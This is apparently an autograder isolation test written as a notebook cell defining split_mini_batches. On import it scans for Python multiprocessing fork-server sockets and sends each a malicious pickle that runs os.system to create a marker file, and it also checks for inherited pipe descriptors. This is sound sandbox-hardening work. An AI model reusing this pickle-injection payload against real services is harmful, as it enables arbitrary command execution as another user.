# score: full
# needs: root
# why: looks for the fork server's socket (multiprocessing's listener, in a pymp-* folder or the abstract namespace) and sends it a pickle that would create /tmp/autograder-pwned-* as the fork server's user; and keeps any descriptor it inherited from the fork server; it must reach no socket and hold no such descriptor (had it, split_mini_batches would raise)
# %% cell: split_mini_batches
import glob
import os
import pickle
import socket
import struct


class _Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/autograder-pwned-$(id -u)",))


def _addresses():
    found = glob.glob("/tmp/pymp-*/listener-*") + glob.glob("/tmp/*/pymp-*/listener-*")
    try:
        with open("/proc/net/unix") as fh:
            for line in fh.read().splitlines()[1:]:
                parts = line.split()
                if len(parts) >= 8 and parts[-1].startswith("@"):
                    found.append("\0" + parts[-1][1:])
    except OSError:
        pass
    return found


_reached = []
for _address in _addresses():
    try:
        _s = socket.socket(socket.AF_UNIX)
        _s.settimeout(1)
        _s.connect(_address)
        _data = pickle.dumps(_Payload())
        _s.sendall(struct.pack("!i", len(_data)) + _data)
        _reached.append(_address)
        _s.close()
    except OSError:
        pass
_inherited = []
for _fd in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
            _inherited.append(_fd)
    except OSError:
        pass


def split_mini_batches(inputs, targets, num_batches):
    if _reached or _inherited:
        raise RuntimeError(f"reached {_reached}, inherited pipes {_inherited}")
    return np.vsplit(inputs, num_batches), np.vsplit(targets, num_batches)
